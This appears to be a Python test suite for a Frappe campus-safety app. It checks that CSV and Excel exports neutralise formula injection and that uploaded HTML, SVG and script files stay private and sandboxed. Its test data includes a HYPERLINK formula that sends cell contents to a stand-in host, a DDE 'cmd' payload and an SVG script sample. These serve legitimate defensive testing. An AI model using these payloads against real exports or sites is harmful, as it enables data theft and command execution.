"""What leaves as a file runs nowhere: no formula in an export, no script among public files (found/security.md M7, M8)."""

import base64
import csv
import io

import frappe
import openpyxl

from campus_safety.access.files import is_passive
from campus_safety.domain import roles as r
from campus_safety.tests.base import WorldTestCase
from campus_safety.tests.http import HttpClient
from campus_safety.tests.world import NEIGHBOUR

FORMULA = '=HYPERLINK("http://evil.test/"&A1,"x")'
HOSTILE = (FORMULA, "＝1+1", "@SUM(1)", "+cmd|' /C calc'!A0", "\t=1+1")
SCRIPT = b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"
ACTIVE = (
	"x.html",
	"x.HTM",
	"x.svg",
	"x.xhtml",
	"x.xml",
	"x.js",
	"x.mhtml",
	"x.svgz",
	"x.png.html",
	"x.wasm",
	"x",
)


class TestFormulas(WorldTestCase):
	"""Written by whoever may, exported by the framework's own ways."""

	def setUp(self) -> None:
		super().setUp()
		self.affairs = HttpClient(self.world.by_role[r.STUDENT_AFFAIRS])
		self.before = frappe.db.get_value("Campus Student", NEIGHBOUR, ["student_name", "home_address"])
		self.addCleanup(self.restore)

	def restore(self) -> None:
		name, address = self.before
		values = {"student_name": name, "home_address": address}
		frappe.db.set_value("Campus Student", NEIGHBOUR, values, update_modified=False)
		frappe.db.commit()

	def export(self, kind: str) -> list[list[str]]:
		answer = self.affairs.call(
			"frappe.desk.reportview.export_query",
			doctype="Campus Student",
			fields=["`tabCampus Student`.`name`", "`tabCampus Student`.`student_name`", "`tabCampus Student`.`home_address`"],
			filters={"name": NEIGHBOUR},
			file_format_type=kind,
			title="x",
		)  # fmt: skip
		self.assertEqual(answer.status_code, 200)
		if kind == "CSV":
			return list(csv.reader(io.StringIO(answer.get_data().decode("utf-8-sig"))))
		sheet = openpyxl.load_workbook(io.BytesIO(answer.get_data())).active
		self.assertFalse([cell for row in sheet.rows for cell in row if cell.data_type == "f"])
		return [[str(cell.value or "") for cell in row] for row in sheet.rows]

	def test_no_export_begins_a_formula(self) -> None:
		for text in HOSTILE:
			values = {"student_name": text, "home_address": text}
			answer = self.affairs.put(f"/api/resource/Campus Student/{NEIGHBOUR}", **values)
			self.assertEqual(answer.status_code, 200, answer.text[-300:])
			for kind in ("Excel", "CSV"):
				with self.subTest(text=text, kind=kind):
					cells = [cell for row in self.export(kind) for cell in row if cell.strip()]
					self.assertTrue(any(text.strip() in cell for cell in cells), cells)
					self.assertFalse([cell for cell in cells if cell.lstrip()[0] in "=＝@＠+"], cells)

	def test_telephones_and_dashes_stay(self) -> None:
		values = {"student_name": "－", "home_address": "- 已与家长联系"}
		self.affairs.put(f"/api/resource/Campus Student/{NEIGHBOUR}", **values)
		stored = frappe.db.get_value("Campus Student", NEIGHBOUR, ["student_name", "home_address"])
		self.assertEqual(stored, ("－", "- 已与家长联系"))

	def test_ones_own_name(self) -> None:
		user = self.world.users["other_counsellor"]
		HttpClient(user).put(f"/api/resource/User/{user}", last_name=FORMULA)
		self.assertFalse((frappe.db.get_value("User", user, "last_name") or "").startswith("="))
		frappe.db.set_value("User", user, {"last_name": "", "full_name": "othercounsellor", "api_key": None})
		frappe.db.commit()


class TestPublicFiles(WorldTestCase):
	def setUp(self) -> None:
		super().setUp()
		self.began = frappe.utils.now_datetime()
		self.addCleanup(self.remove_files)

	def remove_files(self) -> None:
		for name in frappe.get_all("File", filters={"creation": (">=", self.began)}, pluck="name"):
			frappe.delete_doc("File", name, force=True, ignore_permissions=True)
		frappe.db.commit()

	def upload(self, user: str, name: str, **values):
		content = base64.b64encode(SCRIPT + name.encode()).decode()
		document = {"doctype": "File", "file_name": name, "is_private": 0, "content": content, "decode": 1}
		return HttpClient(user).post("/api/resource/File", **document, **values)

	def test_of_the_schools_people_it_is_private(self) -> None:
		tried = 0
		for user in (self.world.users["counsellor"], self.world.by_role[r.SECURITY_GUARD]):
			for name in ACTIVE:
				answer = self.upload(user, name)
				tried += 1
				with self.subTest(name=name):
					if answer.status_code >= 400:
						continue
					file = answer.get_json()["data"]
					self.assertTrue(file["is_private"], name)
					self.assertTrue(file["file_url"].startswith("/private/"))
					public = HttpClient(None).get(f"/files/{name}")
					self.assertNotIn(b"alert(1)", public.get_data())
		self.assertEqual(tried, 2 * len(ACTIVE))

	def test_it_is_not_opened_afterwards(self) -> None:
		user = self.world.users["counsellor"]
		file = self.upload(user, "later.html").get_json()["data"]
		answer = HttpClient(user).put(f"/api/resource/File/{file['name']}", is_private=0)
		self.assertGreaterEqual(answer.status_code, 400)
		self.assertTrue(frappe.db.get_value("File", file["name"], "is_private"))

	def test_a_private_one_is_loaded_and_not_run(self) -> None:
		user = self.world.users["counsellor"]
		for name in ("run.xhtml", "run.html", "run.svg"):
			file = self.upload(user, name).get_json()["data"]
			answer = HttpClient(user).get(file["file_url"])
			self.assertEqual(answer.status_code, 200)
			self.assertIn("sandbox", answer.headers["Content-Security-Policy"])
			self.assertIn("attachment", answer.headers["Content-Disposition"])

	def test_pictures_and_papers_may_be_public(self) -> None:
		for name in ("x.png", "x.pdf", "x.docx", "x.txt", "x.JPG"):
			self.assertTrue(is_passive(name), name)
		answer = self.upload(self.world.users["counsellor"], "public.txt")
		self.assertFalse(answer.get_json()["data"]["is_private"])

	def test_whoever_administers_the_site_publishes(self) -> None:
		answer = self.upload(self.world.users["administrator_of_site"], "logo.svg")
		self.assertFalse(answer.get_json()["data"]["is_private"])
